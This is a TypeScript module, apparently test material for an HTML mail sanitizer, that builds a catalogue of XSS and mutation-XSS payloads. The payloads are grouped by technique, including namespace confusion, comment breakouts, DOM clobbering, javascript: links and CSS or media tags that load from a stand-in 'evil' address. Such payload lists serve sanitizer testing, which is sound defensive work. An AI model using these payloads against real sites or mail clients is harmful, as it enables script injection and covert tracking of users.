/** A mail's body that tries to run something, or to have something loaded, once it is shown. */
export interface Payload {
  /** The publicly documented way it goes. */
  readonly kind: string
  readonly html: string
}

const DEPTH = 510

/**
 * One or a few of each kind that lists of XSS and mutation XSS describe: those of OWASP, PortSwigger
 * and of the tests of sanitizers. Written anew; none is copied.
 *
 * @param run script that shows that it ran; without `<`, `>` and quotes
 * @param evil address that nobody may ask, without a slash at the end
 */
export function payloads(run: string, evil: string): readonly Payload[] {
  const image = `<img src=x onerror=${run}>`
  const of = (kind: string, ...bodies: string[]) => bodies.map((html) => ({ kind, html }))
  return [
    ...of(
      'script',
      `<script>${run}</script>`,
      `<SCRIPT SRC="${evil}/script.js"></SCRIPT>`,
      `<scr<script>ipt>${run}</scr</script>ipt>`,
      `<script/x>${run}</script/x>`,
    ),
    ...of(
      'handler',
      `<body onload=${run}><p onmouseover=${run}>x`,
      `<img/src=x/onerror=${run}>`,
      `<details open ontoggle=${run}>x</details>`,
      `<marquee onstart=${run}>x</marquee>`,
      `<p style="animation: spin 1s" onanimationstart=${run}>x</p><style>@keyframes spin {}</style>`,
      `<input autofocus onfocus=${run}>`,
      `<div contenteditable autofocus onfocusin=${run}>x</div>`,
      `<img src=x oNeRrOr\n=\n${run}>`,
    ),
    ...of(
      'namespace confusion: math, mglyph',
      `<math><mtext><table><mglyph><style><!--</style>${image}`,
      `<form><math><mtext></form><form><mglyph><style></math>${image}`,
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${image}"></style></h1>`,
      `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    ),
    ...of(
      'namespace confusion: annotation-xml',
      `<math><annotation-xml encoding="text/html"><style><img src="</style>${image}"></style></annotation-xml></math>`,
      `<math><annotation-xml encoding="application/xhtml+xml"><style><!--</style>${image}--></style>`,
    ),
    ...of(
      'namespace confusion: svg',
      `<svg></p><style><a id="</style>${image}">`,
      `<svg><foreignObject><math><mi><style><a title="</style>${image}">`,
      `<svg><desc><table><style><b title="</style>${image}"></style></table></desc></svg>`,
      `<svg><title><style><img title="</style>${image}"></style></title></svg>`,
    ),
    ...of('noscript', `<noscript><p title="</noscript>${image}"></noscript>`),
    ...of(
      'noembed, noframes, xmp, plaintext',
      `<noembed><p title="</noembed>${image}">`,
      `<noframes><p title="</noframes>${image}">`,
      `<xmp><p title="</xmp>${image}">`,
      `<iframe><p title="</iframe>${image}">`,
    ),
    ...of(
      'template',
      `<template><img src=x onerror=${run}></template>`,
      `<template><style><b title="</style></template>${image}"></style></template>`,
      `<div><template shadowrootmode="open">${image}</template></div>`,
    ),
    ...of(
      'title and textarea',
      `<title><p title="</title>${image}"></title>`,
      `<textarea><p title="</textarea>${image}"></textarea>`,
    ),
    ...of(
      'breaking out of comments',
      `<!--><img src=x onerror=${run}>-->`,
      `<!-- --!>${image} -->`,
      `<!--<!-- -->${image}<!-- -->`,
      `<?x ><img src=x onerror=${run}>?>`,
      `<!x ><img src=x onerror=${run}>`,
    ),
    ...of(
      'nested forms',
      `<form id=a><div></form><form id=b><img src=x onerror=${run}></form></div>`,
      `<form><div></form><math><mtext></form><form><mglyph><style></math>${image}`,
    ),
    ...of(
      'DOM clobbering',
      `<form name=documentElement><input name=attributes><input name=nodeName>${image}</form>`,
      `<form onclick=${run}><input name=attributes><input name=removeAttribute>x</form>`,
      `<img name=head><img name=body><img id=implementation><img name=defaultView>${image}`,
      `<a id=documentElement></a><a id=documentElement name=innerHTML href="cid:${image}">x</a>`,
    ),
    ...of(
      'table foster parenting',
      `<table><tr><style><td title="</style>${image}"></style></tr></table>`,
      `<table><a><table><style><!--</style></a>${image}`,
      `<table><caption><svg><style></table><a title="</style>${image}">`,
    ),
    ...of(
      'CDATA',
      `<svg><![CDATA[><image xlink:href="]]>${image}">`,
      `<![CDATA[<img src=x onerror=${run}>]]>`,
      `<math><![CDATA[</math>${image}]]>`,
    ),
    ...of(
      'entities decoded twice',
      `&amp;lt;img src=x onerror=${run}&amp;gt;`,
      `&lt;img src=x onerror=${run}&gt;`,
      `<p title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</p>`,
      `<style>&lt;/style&gt;&lt;img src=x onerror=${run}&gt;</style>`,
      `<a href="&amp;#106;avascript:${run}" class=press>x</a>`,
    ),
    ...of(
      'select',
      `<select><style><option title="</style></select>${image}"></style>`,
      `<select><template><style><!--</style></template></select>${image}`,
      `<select><svg><style><a title="</style>${image}">`,
    ),
    ...of(
      'javascript: in links',
      `<a href="javascript:${run}" class=press>x</a>`,
      `<a href=" &#1; javascript:${run}" class=press>x</a>`,
      `<a href="java&#9;script:${run}" class=press>x</a>`,
      `<a href="java&#10;scr&#13;ipt:${run}" class=press>x</a>`,
      `<a href="JaVaScRiPt&colon;${run}" class=press>x</a>`,
      `<a href="javascript&#58;//%0a${run}" class=press>x</a>`,
      `<a href="\u00a0javascript:${run}" class=press>x</a>`,
      `<map name=m><area shape=default href="javascript:${run}" class=press></map>`,
      `<a href="vbscript:${run}" class=press>x</a>`,
    ),
    ...of(
      'data: addresses',
      `<a href="data:text/html,<script>${run}</script>" class=press>x</a>`,
      `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe>`,
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
      `<embed src="data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=">`,
    ),
    ...of(
      'srcdoc',
      `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
      `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
    ),
    ...of(
      'object, embed, applet',
      `<object data="${evil}/object" type="text/html"></object>`,
      `<object><param name=src value="javascript:${run}"></object>`,
      `<embed src="${evil}/embed">`,
      `<applet code="${evil}/applet"></applet>`,
    ),
    ...of(
      'CSS that loads',
      `<style>@import "${evil}/import.css";</style>`,
      `<style>@im@import x;port "${evil}/joined.css";</style>`,
      `<style>@\\69mport "${evil}/escaped.css";</style>`,
      `<style>p { background: url(${evil}/url.png) }</style><p>x</p>`,
      `<p style="background:u\\72l(${evil}/escaped.png)">x</p>`,
      `<p style="background:u\\rl(${evil}/escaped.png)">x</p>`,
      `<p style="background:\\000075\\000072\\00006c(${evil}/escaped.png)">x</p>`,
      `<p style="background:url('${evil}/open.png">x</p>`,
      `<p style="background:url(${evil}/open.png">x</p>`,
      `<p style="background:image-set('${evil}/set.png' 1x)">x</p>`,
      `<p style="background:-webkit-image-set(url(${evil}/set.png) 1x)">x</p>`,
      `<style>@font-face { font-family: f; src: url(${evil}/font.woff) } p { font-family: f }</style><p>x</p>`,
      `<style>p::before { content: url(${evil}/content.png) }</style><p>x</p>`,
      `<p style="cursor:url(${evil}/cursor.cur),auto;list-style:url(${evil}/list.png)">x</p>`,
      `<ul style="list-style-image:URL\n(${evil}/list.png)"><li>x</ul>`,
      `<style><!-- @import url(${evil}/comment.css); --></style>`,
    ),
    ...of(
      'CSS that runs in old browsers',
      `<p style="width:expression(${run})">x</p>`,
      `<p style="width:exp/**/ression(${run})">x</p>`,
      `<p style="behavior:url(${evil}/x.htc)">x</p>`,
      `<p style="-moz-binding:url(${evil}/x.xml#x)">x</p>`,
    ),
    ...of(
      'style closed by what is taken out',
      `<style><@import x;/style><img src=x onerror=${run}></style>`,
      `<style><a title="<@import ${evil}/x;/style>${image}"></style>`,
      `<style>url(<)/style>${image}`,
    ),
    ...of(
      'meta refresh',
      `<meta http-equiv=refresh content="0;url=${evil}/refresh">`,
      `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
      `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    ),
    ...of(
      'base',
      `<base href="${evil}/base/"><img src="relative.png"><a href="relative">x</a>`,
      `<base target=_top href="javascript:${run}//"><a href="#" class=press>x</a>`,
    ),
    ...of(
      'link',
      `<link rel=stylesheet href="${evil}/sheet.css">`,
      `<link rel=preload as=image href="${evil}/preload.png">`,
      `<link rel=dns-prefetch href="${evil}">`,
      `<link rel=modulepreload href="${evil}/module.js">`,
    ),
    ...of(
      'xlink:href',
      `<svg><a xlink:href="javascript:${run}"><text class=press>x</text></a></svg>`,
      `<svg><use xlink:href="${evil}/use.svg#x"/></svg>`,
      `<svg><image xlink:href="${evil}/image.png"/></svg>`,
      `<math><mrow xlink:href="javascript:${run}" class=press>x</mrow></math>`,
    ),
    ...of(
      'animate and set of href',
      `<svg><a><animate attributeName=href values="javascript:${run}" begin=0s fill=freeze /><text class=press>x</text></a></svg>`,
      `<svg><a><set attributeName=xlink:href to="javascript:${run}" /><text class=press>x</text></a></svg>`,
      `<svg><animate onbegin=${run} attributeName=x dur=1s /></svg>`,
      `<svg><set onbegin=${run} attributeName=x to=1 /></svg>`,
    ),
    ...of(
      'formaction',
      `<form><button formaction="javascript:${run}" class=press>x</button></form>`,
      `<form action="javascript:${run}"><input type=submit class=press></form>`,
      `<form action="${evil}/form"><input type=image src="${evil}/image.png" class=press></form>`,
      `<isindex type=image src=x onerror=${run}>`,
    ),
    ...of('ping', `<a href="#x" ping="${evil}/ping" class=press>x</a>`),
    ...of(
      'popover',
      `<button popovertarget=x class=press>x</button><p id=x popover onbeforetoggle=${run}>y</p>`,
      `<input type=hidden popover id=p onbeforetoggle=${run}><button popovertarget=p class=press>x</button>`,
    ),
    ...of(
      'XML stylesheets and documents',
      `<?xml-stylesheet href="${evil}/sheet.xsl" type="text/xsl"?><p>x`,
      `<xml id=x src="${evil}/x.xml"></xml>`,
      `<!DOCTYPE x [<!ENTITY y SYSTEM "${evil}/entity">]><p>&y;`,
    ),
    ...of(
      'media and pictures',
      `<video src="${evil}/video" poster="${evil}/poster.png" autoplay onloadstart=${run}></video>`,
      `<audio src="${evil}/audio" autoplay></audio>`,
      `<picture><source srcset="${evil}/source.png"><img src="x"></picture>`,
      `<img srcset="${evil}/set.png 1x" src="x">`,
      `<img src="&#9;${evil}/pixel.gif"><img src="${evil.replace(/^https?:/, '')}/pixel.gif">`,
      `<img lowsrc="${evil}/low.png" dynsrc="${evil}/dyn.png" longdesc="${evil}/long">`,
      `<table background="${evil}/background.png"><tr><td background="${evil}/cell.png">x</table>`,
    ),
    ...of(
      'frames',
      `<frameset onload=${run}><frame src="${evil}/frame"></frameset>`,
      `<iframe src="${evil}/frame"></iframe>`,
      `<portal src="${evil}/portal"></portal>`,
      `<fencedframe src="${evil}/fenced"></fencedframe>`,
    ),
    ...of(
      'custom elements and is',
      `<x-y onfocus=${run} tabindex=1 autofocus>x</x-y>`,
      `<p is=x-y onclick=${run} class=press>x</p>`,
    ),
    ...of(
      'very deep',
      `${'<div>'.repeat(DEPTH)}<math><mtext><table><mglyph><style><!--</style>${image}`,
      `${'<svg>'.repeat(DEPTH)}<style><a title="</style>${image}">`,
    ),
    ...of(
      'odd characters',
      `<img src=x onerror\u0000=${run}>`,
      `<\u0000script>${run}</script>`,
      `<img src="x\`onerror=${run} \`">`,
      `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    ),
  ]
}
